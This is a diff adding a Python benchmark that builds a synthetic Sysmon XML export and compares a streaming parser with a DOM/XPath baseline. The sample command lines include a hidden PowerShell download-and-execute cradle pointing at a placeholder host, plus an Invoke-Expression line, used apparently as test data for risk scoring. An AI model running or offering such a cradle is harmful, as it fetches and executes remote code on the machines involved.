@@ -0,0 +1,171 @@
+"""
+Sysmon XML parsing benchmark on a synthetic event export
+
+Generates a wevtutil-style export of process-create, network-connect,
+file-create and DNS events and compares the streaming parser against a
+whole-document parse with one XPath lookup per field. Checks that both
+produce the same documents, that small read sizes (events split across
+feeds) change nothing, and reports events/sec, MB/sec and peak memory.
+
+Usage: cd backend && python -m scripts.bench_sysmon [--events N] [--read-size BYTES]
+"""
+
+import argparse
+import random
+import time
+import tracemalloc
+import xml.etree.ElementTree as ET
+from typing import Any, Dict, List
+from xml.sax.saxutils import escape, quoteattr
+
+from app.services import sysmon
+
+_NS = {"e": "http://schemas.microsoft.com/win/2004/08/events/event"}
+_COMMANDS = (
+    "C:\\Windows\\System32\\cmd.exe /c whoami",
+    "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')",
+    "powershell.exe -c Invoke-Expression $payload",
+    "C:\\Windows\\System32\\svchost.exe -k netsvcs -p",
+    '"C:\\Program Files\\Mozilla Firefox\\firefox.exe" -contentproc --channel=1',
+)
+
+
+def _event(rng: random.Random, seq: int) -> str:
+    event_id = rng.choice((1, 3, 11, 22))
+    second = seq % 60
+    utc = f"2024-03-01 12:{seq // 60 % 60:02d}:{second:02d}.{seq % 1000:03d}"
+    data = {
+        "RuleName": "-",
+        "UtcTime": utc,
+        "ProcessGuid": f"{{{seq:08x}-65e1-65e1-0000-001000000000}}",
+        "ProcessId": str(1000 + seq % 9000),
+        "Image": rng.choice(
+            ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\powershell.exe")
+        ),
+        "User": "CORP\\analyst",
+    }
+    if event_id == 1:
+        data.update(
+            CommandLine=rng.choice(_COMMANDS),
+            CurrentDirectory="C:\\Users\\analyst\\",
+            IntegrityLevel="Medium",
+            Hashes=f"SHA256={seq:064X},MD5={seq:032X}",
+            ParentProcessId=str(500 + seq % 400),
+            ParentImage="C:\\Windows\\explorer.exe",
+            ParentCommandLine="C:\\Windows\\Explorer.EXE",
+        )
+    elif event_id == 3:
+        data.update(
+            Protocol="tcp",
+            SourceIp=f"10.0.{seq % 256}.{seq % 250 + 1}",
+            SourcePort=str(49152 + seq % 16000),
+            DestinationIp=f"192.168.1.{seq % 250 + 1}",
+            DestinationHostname="dc01.corp.local",
+            DestinationPort=str(rng.choice((80, 443, 445, 3389))),
+        )
+    elif event_id == 11:
+        data["TargetFilename"] = f"C:\\Users\\analyst\\AppData\\Local\\Temp\\{seq:x}.tmp"
+    else:
+        data.update(
+            QueryName=f"host{seq % 5000}.example.com",
+            QueryStatus="0",
+            QueryResults=f"::ffff:192.168.1.{seq % 250 + 1};",
+        )
+    items = "".join(
+        f"<Data Name={quoteattr(name)}>{escape(value)}</Data>" for name, value in data.items()
+    )
+    return (
+        f'<Event xmlns="{_NS["e"]}">'
+        '<System><Provider Name="Microsoft-Windows-Sysmon" '
+        'Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>'
+        f"<EventID>{event_id}</EventID><Version>5</Version><Level>4</Level>"
+        f'<TimeCreated SystemTime="{utc.replace(" ", "T")}0000Z"/>'
+        f"<EventRecordID>{seq}</EventRecordID>"
+        f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel>"
+        f"<Computer>WS{seq % 64:02d}.corp.local</Computer></System>"
+        f"<EventData>{items}</EventData></Event>\n"
+    )
+
+
+def synthetic_export(events: int, seed: int = 0) -> bytes:
+    rng = random.Random(seed)
+    body = "".join(_event(rng, seq) for seq in range(events))
+    return f'<?xml version="1.0" encoding="UTF-8"?>\n<Events>\n{body}</Events>\n'.encode()
+
+
+def xpath_parse(xml: bytes) -> List[Dict[str, Any]]:
+    """Baseline: whole-document parse and one XPath query per known field"""
+    documents = []
+    for event in ET.fromstring(xml).iterfind("e:Event", _NS):
+        doc: Dict[str, Any] = {
+            "event_id": event.findtext("e:System/e:EventID", namespaces=_NS),
+            "computer_name": event.findtext("e:System/e:Computer", namespaces=_NS),
+            "@timestamp": event.find("e:System/e:TimeCreated", _NS).get("SystemTime"),
+        }
+        for name, (field, convert) in sysmon.DATA_FIELDS.items():
+            node = event.find(f"e:EventData/e:Data[@Name='{name}']", _NS)
+            if node is not None and node.text is not None:
+                doc[field] = convert(node.text) if convert else node.text
+        doc.pop("utc_time", None)
+        if doc.get("image"):
+            doc["process_name"] = doc["image"].rpartition("\\")[2]
+        if doc.get("parent_image"):
+            doc["parent_process_name"] = doc["parent_image"].rpartition("\\")[2]
+        doc["risk_score"] = sysmon.risk_score(doc.get("command_line"))
+        doc["severity"] = sysmon.severity_for(doc["risk_score"])
+        documents.append(doc)
+    return documents
+
+
+def _measure(label: str, func, size: int, count: int) -> List[Dict[str, Any]]:
+    started = time.perf_counter()
+    result = func()
+    elapsed = time.perf_counter() - started
+    # Separate run: tracemalloc slows allocation-heavy code several times over
+    tracemalloc.start()
+    func()
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    print(
+        f"{label:<28} {count / elapsed:>10,.0f} events/sec "
+        f"{size / elapsed / 2**20:>7.1f} MB/sec  peak {peak / 2**20:>7.1f} MiB"
+    )
+    return result
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("--events", type=int, default=100_000)
+    parser.add_argument("--read-size", type=int, default=sysmon.READ_SIZE)
+    parser.add_argument("--seed", type=int, default=0)
+    args = parser.parse_args()
+
+    xml = synthetic_export(args.events, args.seed)
+    print(f"corpus: {args.events:,} events, {len(xml) / 2**20:.1f} MiB")
+
+    def streaming(read_size: int):
+        # Count only: a consumer that indexes and drops each document
+        def run():
+            count = 0
+            for _ in sysmon.parse_stream(xml, read_size=read_size):
+                count += 1
+            return count
+
+        return run
+
+    count = _measure("streaming", streaming(args.read_size), len(xml), args.events)
+    _measure("streaming (256 KiB feeds)", streaming(256 * 1024), len(xml), args.events)
+    baseline = _measure("dom + xpath per field", lambda: xpath_parse(xml), len(xml), args.events)
+
+    # Correctness: same documents as the baseline, regardless of feed size
+    documents = list(sysmon.parse_stream(xml, read_size=args.read_size))
+    split = list(sysmon.parse_stream(xml, read_size=97))
+    mismatches = sum(1 for a, b in zip(documents, baseline) if a != b)
+    mismatches += len(documents) != len(baseline) or documents != split
+    print(f"parsed: {count:,}  mismatches: {mismatches}")
+    if count != args.events or mismatches:
+        raise SystemExit(1)
+
+
+if __name__ == "__main__":
+    main()